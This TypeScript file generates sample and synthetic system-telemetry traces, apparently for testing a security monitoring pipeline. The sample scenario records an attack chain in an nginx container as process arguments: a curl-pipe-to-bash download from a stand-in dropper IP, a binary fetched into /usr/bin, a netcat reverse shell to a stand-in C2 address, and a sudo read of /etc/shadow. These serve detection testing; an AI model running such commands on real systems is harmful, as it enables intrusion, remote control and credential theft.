/**
 * Deterministic sample traces: a small hand-written node scenario (`sample.sf`) and a generator of large
 * synthetic traces for benchmarks and tests. Both are made by code, so they can be regenerated exactly.
 */
import * as fs from "node:fs"
import * as path from "node:path"
import type { CodecName } from "../avro/Codecs.js"
import { type ByteSink, fileSink } from "../avro/OcfWriter.js"
import { OpFlag, OpenFlag, type TraceProcess, TraceWriter, ipaddr } from "./TraceWriter.js"

const T0 = 1_700_000_000_000_000_000n
const SECOND = 1_000_000_000n
const BOOT = T0 - 3600n * SECOND

const NODE_IP = "10.0.2.15"
const POD_IP = "10.244.0.12"
const CACHE_IP = "172.17.0.3"
const DNS = "10.96.0.10"
const C2 = "203.0.113.7"
const DROPPER = "198.51.100.23"

const { CLONE, EXEC, EXIT, SETUID, ACCEPT, CONNECT, OPEN, READ_RECV, WRITE_SEND, CLOSE, SHUTDOWN, MMAP } = OpFlag
const { RDONLY, WRONLY, RDWR, CREAT, TRUNC, APPEND, NONBLOCK, CLOEXEC } = OpenFlag
const READ_FILE = OPEN | READ_RECV | CLOSE
const WRITE_FILE = OPEN | WRITE_SEND | CLOSE
const LOAD_LIB = OPEN | READ_RECV | MMAP | CLOSE
const TCP_CLIENT = CONNECT | WRITE_SEND | READ_RECV | CLOSE
const TCP_SERVER = ACCEPT | READ_RECV | WRITE_SEND | SHUTDOWN | CLOSE

/** What an exec changes. */
interface Image {
  readonly exe: string
  readonly exeArgs: string
  readonly uid?: number
  readonly userName?: string
  readonly gid?: number
  readonly groupName?: string
  readonly tty?: boolean
  readonly cwd?: string
}

/**
 * A child process as the collector reports it: a CREATED record still showing the parent's image and a
 * CLONE event, then a MODIFIED record with the new image and an EXEC event.
 */
const spawn = (w: TraceWriter, parent: TraceProcess, pid: bigint, image: Image): TraceProcess => {
  const { exe, exeArgs, uid, userName, gid, groupName, tty, containerId, cwd, env } = parent
  const child = w.process({ pid, parent, exe, exeArgs, uid, userName, gid, groupName, tty, containerId, cwd, env })
  w.processEvent({ proc: child, opFlags: CLONE })
  const execd = w.update(child, image)
  w.processEvent({ proc: execd, opFlags: EXEC })
  return execd
}

const exit = (w: TraceWriter, proc: TraceProcess, code = 0): void => {
  w.processEvent({ proc, opFlags: EXIT, ret: code })
}

const loadLibs = (w: TraceWriter, proc: TraceProcess, libs: ReadonlyArray<string>): void => {
  w.fileFlow({ proc, file: "/etc/ld.so.cache", opFlags: OPEN | MMAP | CLOSE, openFlags: RDONLY | CLOEXEC, fd: 3 })
  for (const lib of libs) {
    w.fileFlow({
      proc,
      file: lib,
      opFlags: LOAD_LIB,
      openFlags: RDONLY | CLOEXEC,
      fd: 3,
      numRRecvOps: 1n,
      numRRecvBytes: 832n
    })
  }
}

const LIBC = "/lib/x86_64-linux-gnu/libc.so.6"
const DNS_QUERY = { proto: 17, dport: 53, numRRecvOps: 1n, numWSendOps: 1n, numRRecvBytes: 112n, numWSendBytes: 40n }

/**
 * The `sample.sf` scenario: one node with an nginx pod, a redis container and an SSH session; the nginx
 * container is then abused (shell, downloads, package install, binary dropped below /usr/bin, reverse
 * shell), while on the host a user reads /etc/shadow through sudo.
 */
export const writeSampleTrace = (sink: ByteSink): void => {
  // Small blocks so that even the sample has several.
  const w = new TraceWriter(sink, { blockSize: 64, startTs: T0 })
  w.header({ exporter: "sfsample", ip: NODE_IP, filename: "/mnt/data/1700000000" })

  const pod = w.pod({
    id: "6b1f0e4c-2d7a-4c1e-9f3b-8a5d2e7c4b91",
    name: "web-7d9f8c6b5-x2kqp",
    namespace: "shop",
    nodeName: "node-1",
    ts: BOOT + 120n * SECOND,
    hostIP: [NODE_IP],
    internalIP: [POD_IP],
    labels: { app: "web", "pod-template-hash": "7d9f8c6b5" },
    services: [
      {
        name: "web",
        id: "0c9e3a57-5f8b-4f4e-b3f2-1d6c7e8a9b0c",
        namespace: "shop",
        portList: [{ port: 80, targetPort: 80, nodePort: 0, proto: "TCP" }],
        clusterIP: [ipaddr("10.96.14.7")]
      }
    ]
  })
  const web = w.container({
    id: "3f1c2a9b7d4e",
    name: "k8s_nginx_web-7d9f8c6b5-x2kqp_shop_6b1f0e4c-2d7a-4c1e-9f3b-8a5d2e7c4b91_0",
    image: "docker.io/library/nginx:1.25.3",
    imageid: "a8758716bb6aa4d90071160d27028fe4eaee7ce8166221a97d30440c8eac2be6",
    type: "CT_CONTAINERD",
    podId: pod.id
  })
  const cache = w.container({
    id: "9a8b7c6d5e4f",
    name: "redis-cache",
    image: "redis:7.2",
    imageid: "76506809a39f1c9f2cd5a7e0c9b1d8e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9",
    type: "CT_DOCKER"
  })

  // Processes that predate the capture, re-exported (REUP) so the file is self-contained.
  const reup = { state: "REUP" as const, ts: T0 }
  const systemd = w.process({
    ...reup,
    pid: 1n,
    exe: "/usr/lib/systemd/systemd",
    exeArgs: "--system --deserialize 31",
    createTS: BOOT,
    entry: true
  })
  const containerd = w.process({
    ...reup,
    pid: 811n,
    exe: "/usr/bin/containerd",
    parent: systemd,
    createTS: BOOT + 4n * SECOND
  })
  const shim = w.process({
    ...reup,
    pid: 2101n,
    exe: "/usr/bin/containerd-shim-runc-v2",
    exeArgs: `-namespace k8s.io -id ${web.id}0b5c8e1f2a3d4c5b6a7980 -address /run/containerd/containerd.sock`,
    parent: systemd,
    createTS: BOOT + 118n * SECOND
  })
  const nginxEnv = ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "NGINX_VERSION=1.25.3"]
  const nginx = w.process({
    ...reup,
    pid: 2130n,
    exe: "/usr/sbin/nginx",
    exeArgs: "-g daemon off;",
    parent: shim,
    containerId: web.id,
    entry: true,
    env: nginxEnv,
    createTS: BOOT + 121n * SECOND
  })
  const worker = w.process({
    ...reup,
    pid: 2161n,
    exe: "/usr/sbin/nginx",
    exeArgs: "-g daemon off;",
    parent: nginx,
    containerId: web.id,
    uid: 101,
    userName: "nginx",
    gid: 101,
    groupName: "nginx",
    env: nginxEnv,
    createTS: BOOT + 121n * SECOND + 40_000_000n
  })
  // redis runs under a docker shim that was never exported: its parent does not appear in the trace.
  const redis = w.process({
    ...reup,
    pid: 2305n,
    exe: "/usr/local/bin/redis-server",
    exeArgs: "*:6379",
    parent: { createTS: BOOT + 200n * SECOND, hpid: 2290n },
    containerId: cache.id,
    uid: 999,
    userName: "redis",
    gid: 999,
    groupName: "redis",
    cwd: "/data",
    entry: true,
    createTS: BOOT + 201n * SECOND
  })
  // A worker in a container whose Container record is never exported, also without a known parent.
  const jobs = w.process({
    ...reup,
    pid: 3307n,
    exe: "/usr/bin/python3",
    exeArgs: "/opt/app/worker.py --queue jobs",
    parent: { createTS: BOOT + 300n * SECOND, hpid: 3290n },
    containerId: "5e6f7a8b9c0d",
    uid: 1000,
    userName: "app",
    gid: 1000,
    groupName: "app",
    cwd: "/opt/app",
    createTS: BOOT + 301n * SECOND
  })
  const sshd = w.process({
    ...reup,
    pid: 950n,
    exe: "/usr/sbin/sshd",
    exeArgs: "-D",
    parent: systemd,
    createTS: BOOT + 6n * SECOND
  })

  // Ordinary traffic: a web request served from the pod, a cache hit, the worker's lookups.
  w.networkFlow({ proc: worker, opFlags: TCP_SERVER, sip: "10.244.0.1", sport: 52114, dip: POD_IP, dport: 80, fd: 11,
    numRRecvOps: 1n, numWSendOps: 2n, numRRecvBytes: 412n, numWSendBytes: 1187n })
  w.fileFlow({ proc: worker, file: "/usr/share/nginx/html/index.html", opFlags: READ_FILE,
    openFlags: RDONLY | NONBLOCK | CLOEXEC, fd: 12, numRRecvOps: 1n, numRRecvBytes: 615n })
  w.fileFlow({ proc: worker, file: "/var/log/nginx/access.log", opFlags: WRITE_SEND, fd: 5,
    numWSendOps: 1n, numWSendBytes: 94n })
  w.networkFlow({ proc: redis, opFlags: TCP_SERVER, sip: "172.17.0.1", sport: 39822, dip: CACHE_IP, dport: 6379,
    fd: 8, numRRecvOps: 3n, numWSendOps: 3n, numRRecvBytes: 96n, numWSendBytes: 1543n })
  w.fileFlow({ proc: redis, file: "/data/appendonly.aof", opFlags: WRITE_SEND, openFlags: WRONLY | APPEND | CREAT,
    fd: 9, numWSendOps: 3n, numWSendBytes: 231n })
  w.networkFlow({ proc: jobs, opFlags: TCP_CLIENT, sip: "172.17.0.4", sport: 41233, dip: DNS, fd: 6, ...DNS_QUERY })
  w.networkFlow({ proc: jobs, opFlags: TCP_CLIENT, sip: "172.17.0.4", sport: 48802, dip: "10.96.14.7", dport: 80,
    fd: 6, numRRecvOps: 2n, numWSendOps: 1n, numRRecvBytes: 1702n, numWSendBytes: 211n })
  // A socket closed before the collector learnt its protocol.
  w.networkFlow({ proc: containerd, opFlags: CLOSE, sip: 0, sport: 0, dip: 0, dport: 0, proto: -1, fd: 69 })
  w.k8sEvent({
    kind: "K8S_PODS",
    action: "K8S_COMPONENT_MODIFIED",
    message:
      `{"apiVersion":"v1","items":[{"metadata":{"name":"${pod.name}","namespace":"shop","uid":"${pod.id}"},` +
      `"status":{"phase":"Running","podIP":"${POD_IP}","hostIP":"${NODE_IP}"}}],"kind":"PodList"}\n\u0000`
  })

  // An interactive SSH session; the user reads /etc/shadow through sudo.
  w.networkFlow({ proc: sshd, opFlags: ACCEPT | READ_RECV | WRITE_SEND, sip: "192.0.2.44", sport: 53122,
    dip: NODE_IP, dport: 22, fd: 4, numRRecvOps: 14n, numWSendOps: 12n, numRRecvBytes: 3312n, numWSendBytes: 4420n })
  const session = spawn(w, sshd, 4001n, { exe: "/usr/sbin/sshd", exeArgs: "-D -R" })
  const user = { uid: 1000, userName: "alice", gid: 1000, groupName: "alice", tty: true, cwd: "/home/alice" }
  const bash = spawn(w, session, 4010n, { exe: "/bin/bash", exeArgs: "-bash", ...user })
  w.fileFlow({ proc: bash, file: "/home/alice/.bashrc", opFlags: READ_FILE, openFlags: RDONLY, fd: 3,
    numRRecvOps: 2n, numRRecvBytes: 3771n })
  const sudo = w.update(spawn(w, bash, 4022n, { exe: "/usr/bin/sudo", exeArgs: "cat /etc/shadow", ...user }), {
    uid: 0,
    userName: "root"
  })
  w.processEvent({ proc: sudo, opFlags: SETUID })
  w.fileFlow({ proc: sudo, file: "/etc/sudoers", opFlags: READ_FILE, openFlags: RDONLY, fd: 4,
    numRRecvOps: 2n, numRRecvBytes: 1800n })
  const cat = spawn(w, sudo, 4023n, { exe: "/usr/bin/cat", exeArgs: "/etc/shadow", ...user, uid: 0, userName: "root" })
  loadLibs(w, cat, [LIBC])
  w.fileFlow({ proc: cat, file: "/etc/shadow", opFlags: READ_FILE, openFlags: RDONLY, fd: 3,
    numRRecvOps: 2n, numRRecvBytes: 1317n })
  w.fileFlow({ proc: cat, file: "/dev/pts/0", opFlags: WRITE_SEND, fd: 1, numWSendOps: 1n, numWSendBytes: 1317n })
  exit(w, cat)
  exit(w, sudo)

  // The nginx worker is exploited: it starts a shell that fetches and runs a script.
  const shell = spawn(w, worker, 2201n, { exe: "/bin/bash",
    exeArgs: `-c curl -fsSL http://${DROPPER}/x.sh | bash`, cwd: "/" })
  w.fileFlow({ proc: shell, file: "pipe:[88231]", opFlags: OPEN | CLOSE, openFlags: RDWR, fd: 3 })
  const curl = spawn(w, shell, 2202n, { exe: "/usr/bin/curl", exeArgs: `-fsSL http://${DROPPER}/x.sh` })
  loadLibs(w, curl, ["/usr/lib/x86_64-linux-gnu/libcurl.so.4", LIBC])
  w.networkFlow({ proc: curl, opFlags: TCP_CLIENT, sip: POD_IP, sport: 49810, dip: DROPPER, dport: 80, fd: 5,
    numRRecvOps: 2n, numWSendOps: 1n, numRRecvBytes: 2210n, numWSendBytes: 96n })
  w.fileFlow({ proc: curl, file: "pipe:[88231]", opFlags: WRITE_SEND | CLOSE, fd: 1,
    numWSendOps: 1n, numWSendBytes: 1984n })
  exit(w, curl)
  const script = spawn(w, shell, 2203n, { exe: "/bin/bash", exeArgs: "" })
  w.fileFlow({ proc: script, file: "pipe:[88231]", opFlags: READ_RECV | CLOSE, fd: 0,
    numRRecvOps: 2n, numRRecvBytes: 1984n })

  const apt = spawn(w, script, 2210n, { exe: "/usr/bin/apt-get", exeArgs: "install -y netcat-openbsd" })
  w.networkFlow({ proc: apt, opFlags: TCP_CLIENT, sip: POD_IP, sport: 38655, dip: DNS, fd: 4, ...DNS_QUERY })
  w.networkFlow({ proc: apt, opFlags: TCP_CLIENT, sip: POD_IP, sport: 50118, dip: "151.101.2.132", dport: 80, fd: 5,
    numRRecvOps: 31n, numWSendOps: 1n, numRRecvBytes: 44512n, numWSendBytes: 212n })
  w.fileFlow({ proc: apt, file: "/var/lib/dpkg/lock-frontend", opFlags: OPEN | WRITE_SEND | CLOSE,
    openFlags: RDWR | CREAT | CLOEXEC, fd: 6, numWSendOps: 1n, numWSendBytes: 0n })
  const dpkg = spawn(w, apt, 2215n, { exe: "/usr/bin/dpkg",
    exeArgs: "--status-fd 23 --no-triggers --unpack --auto-deconfigure " +
      "/var/cache/apt/archives/netcat-openbsd_1.219-1_amd64.deb" })
  w.fileFlow({ proc: dpkg, file: "/usr/bin/nc.openbsd.dpkg-new", opFlags: WRITE_FILE,
    openFlags: WRONLY | CREAT | TRUNC, fd: 7, numWSendOps: 3n, numWSendBytes: 35496n })
  w.fileEvent({ proc: dpkg, opFlags: OpFlag.RENAME, file: "/usr/bin/nc.openbsd.dpkg-new",
    newFile: "/usr/bin/nc.openbsd" })
  w.fileEvent({ proc: dpkg, opFlags: OpFlag.SYMLINK, file: "/etc/alternatives/nc", newFile: "/usr/bin/nc" })
  exit(w, dpkg)
  exit(w, apt)

  const wget = spawn(w, script, 2220n, { exe: "/usr/bin/wget", exeArgs: `-q -O /tmp/.x http://${C2}/kworker` })
  w.networkFlow({ proc: wget, opFlags: TCP_CLIENT, sip: POD_IP, sport: 51544, dip: C2, dport: 80, fd: 3,
    numRRecvOps: 12n, numWSendOps: 1n, numRRecvBytes: 88144n, numWSendBytes: 142n })
  w.fileFlow({ proc: wget, file: "/tmp/.x", opFlags: WRITE_FILE, openFlags: WRONLY | CREAT | TRUNC, fd: 4,
    numWSendOps: 11n, numWSendBytes: 88000n })
  exit(w, wget)
  const cp = spawn(w, script, 2225n, { exe: "/usr/bin/cp", exeArgs: "/tmp/.x /usr/bin/kworkerd" })
  w.fileFlow({ proc: cp, file: "/tmp/.x", opFlags: READ_FILE, openFlags: RDONLY, fd: 3,
    numRRecvOps: 2n, numRRecvBytes: 88000n })
  w.fileFlow({ proc: cp, file: "/usr/bin/kworkerd", opFlags: WRITE_FILE, openFlags: WRONLY | CREAT | TRUNC, fd: 4,
    numWSendOps: 1n, numWSendBytes: 88000n })
  exit(w, cp)
  const rm = spawn(w, script, 2228n, { exe: "/usr/bin/rm", exeArgs: "-f /tmp/.x" })
  w.fileEvent({ proc: rm, opFlags: OpFlag.UNLINK, file: "/tmp/.x" })
  exit(w, rm)
  const nc = spawn(w, script, 2230n, { exe: "/usr/bin/nc.openbsd", exeArgs: `${C2} 4444 -e /bin/bash` })
  w.networkFlow({ proc: nc, opFlags: TCP_CLIENT, sip: POD_IP, sport: 42290, dip: C2, dport: 4444, fd: 3,
    numRRecvOps: 9n, numWSendOps: 9n, numRRecvBytes: 311n, numWSendBytes: 5230n })
  exit(w, nc, 1)
  exit(w, script)
  exit(w, shell)
  w.fileFlow({ proc: worker, file: "/var/log/nginx/error.log", opFlags: WRITE_SEND, fd: 6,
    numWSendOps: 1n, numWSendBytes: 133n })
  w.close()
}

export const SAMPLE_FILE = "sample.sf"

/** Writes the committed sample traces into `dir`; returns the paths written. */
export const writeSamples = (dir: string): string[] => {
  fs.mkdirSync(dir, { recursive: true })
  const file = path.join(dir, SAMPLE_FILE)
  writeSampleTrace(fileSink(file))
  return [file]
}

/** mulberry32: a small, fast, seedable PRNG (Math.random cannot be seeded). Returns [0, 1). */
const prng = (seed: number): (() => number) => {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

export interface SyntheticTraceOptions {
  /** Number of event and flow records (PE, FF, FE, NF); header and entity records come on top. */
  readonly records: number
  readonly seed?: number
  /** Size of the process pool (default 400). */
  readonly processes?: number
  /** Size of the file pool (default 4000). */
  readonly files?: number
  /** Number of containers (default 8); about a fifth of the processes run on the host. */
  readonly containers?: number
  readonly codec?: CodecName
  readonly blockSize?: number
}

const PROGRAMS: ReadonlyArray<readonly [string, string]> = [
  ["/usr/sbin/nginx", "-g daemon off;"],
  ["/usr/local/bin/node", "/srv/app/server.js"],
  ["/usr/bin/python3", "/opt/app/worker.py --queue jobs"],
  ["/usr/local/bin/redis-server", "*:6379"],
  ["/usr/bin/java", "-Xmx512m -jar /srv/app.jar"],
  ["/bin/bash", "-c /usr/local/bin/healthcheck.sh"],
  ["/usr/bin/containerd", ""],
  ["/usr/sbin/sshd", "-D"],
  ["/usr/bin/curl", "-s http://10.96.14.7/healthz"],
  ["/usr/lib/postgresql/15/bin/postgres", "-D /var/lib/postgresql/data"]
]

const FILE_KINDS: ReadonlyArray<(i: number) => string> = [
  (i) => `/usr/lib/x86_64-linux-gnu/lib${i % 97}.so.${i % 5}`,
  (i) => `/var/lib/app/data/segment-${i}.db`,
  (i) => `/var/log/app/app-${i % 31}.log`,
  (i) => `/etc/app/conf.d/${i % 53}.conf`,
  (i) => `/proc/${1000 + (i % 400)}/stat`,
  (i) => `pipe:[${40000 + i}]`,
  (i) => `/tmp/tmp.${(i * 2654435761) % 1000003}`
]

/**
 * Writes a large, realistic trace: a header and the containers first, then events and flows (mostly
 * FF and NF) over bounded pools of processes and files, each entity written just before its first use
 * (its parents first). Blocks go to `sink` as they fill, so memory stays flat whatever `records` is.
 * The same options always give the same bytes. Returns the number of datums written.
 */
export const generateSyntheticTrace = (sink: ByteSink, opts: SyntheticTraceOptions): number => {
  const rand = prng(opts.seed ?? 1)
  const int = (n: number): number => Math.floor(rand() * n)
  const nProcs = opts.processes ?? 400
  const nFiles = opts.files ?? 4000
  const nContainers = opts.containers ?? 8
  const w = new TraceWriter(sink, { startTs: T0, codec: opts.codec, blockSize: opts.blockSize })
  w.header({ exporter: "sfsynthetic", ip: NODE_IP, filename: `/mnt/data/synthetic-${opts.seed ?? 1}` })
  const containerIds = Array.from({ length: nContainers }, (_, i) => {
    const id = (0x3f1c2a000000 + i * 0x1f3d5b).toString(16).padStart(12, "0")
    w.container({ id, name: `app-${i}`, image: `registry.local/app-${i}:1.${i}`, imageid: id.repeat(5).slice(0, 64) })
    return id
  })

  // Process i's parent is an earlier process (or none), so ancestry is a forest rooted at process 0.
  const procs: Array<TraceProcess | undefined> = new Array(nProcs)
  const parentOf = Array.from({ length: nProcs }, (_, i) => (i === 0 ? -1 : int(i)))
  const containerOf = Array.from({ length: nProcs }, () =>
    rand() < 0.2 ? null : (containerIds[int(nContainers)] ?? null)
  )
  const proc = (i: number): TraceProcess => {
    const known = procs[i]
    if (known !== undefined) return known
    const parent = parentOf[i] < 0 ? null : proc(parentOf[i])
    const [exe, exeArgs] = PROGRAMS[i % PROGRAMS.length]
    const created = w.process({
      pid: BigInt(1000 + i * 7),
      exe,
      exeArgs,
      parent,
      state: "REUP",
      createTS: BOOT + BigInt(i) * SECOND,
      containerId: containerOf[i],
      uid: i % 3 === 0 ? 0 : 1000 + (i % 5)
    })
    procs[i] = created
    return created
  }
  // A path: the writer resolves it in the acting process's container and emits its File on first use.
  const file = (): string => {
    const i = int(nFiles)
    return FILE_KINDS[i % FILE_KINDS.length](i)
  }

  let ts = T0
  for (let n = 0; n < opts.records; n++) {
    ts += BigInt(1 + int(2000)) * 1000n
    const p = proc(int(nProcs))
    const roll = rand()
    if (roll < 0.55) {
      const read = rand() < 0.7
      w.fileFlow({
        proc: p,
        file: file(),
        ts,
        endTs: ts + BigInt(int(5_000_000)),
        opFlags: OPEN | CLOSE | (read ? READ_RECV : WRITE_SEND),
        openFlags: read ? RDONLY | CLOEXEC : WRONLY | CREAT | APPEND,
        fd: 3 + int(60),
        ...(read
          ? { numRRecvOps: BigInt(1 + int(20)), numRRecvBytes: BigInt(int(65536)) }
          : { numWSendOps: BigInt(1 + int(20)), numWSendBytes: BigInt(int(65536)) })
      })
    } else if (roll < 0.85) {
      const external = rand() < 0.1
      w.networkFlow({
        proc: p,
        ts,
        endTs: ts + BigInt(int(50_000_000)),
        opFlags: rand() < 0.5 ? TCP_CLIENT : TCP_SERVER,
        sip: `10.244.0.${2 + int(200)}`,
        sport: 32768 + int(28000),
        dip: external ? `203.0.113.${1 + int(250)}` : `10.96.${int(16)}.${1 + int(250)}`,
        dport: [80, 443, 53, 5432, 6379][int(5)],
        proto: rand() < 0.1 ? 17 : 6,
        fd: 3 + int(60),
        numRRecvOps: BigInt(int(50)),
        numWSendOps: BigInt(int(50)),
        numRRecvBytes: BigInt(int(1 << 20)),
        numWSendBytes: BigInt(int(1 << 20))
      })
    } else if (roll < 0.95) {
      w.processEvent({ proc: p, ts, opFlags: [CLONE, EXEC, EXIT, SETUID][int(4)], ret: 0 })
    } else {
      const rename = rand() < 0.5
      w.fileEvent({
        proc: p,
        ts,
        opFlags: rename ? OpFlag.RENAME : OpFlag.UNLINK,
        file: file(),
        newFile: rename ? file() : null
      })
    }
  }
  w.close()
  return w.datums
}
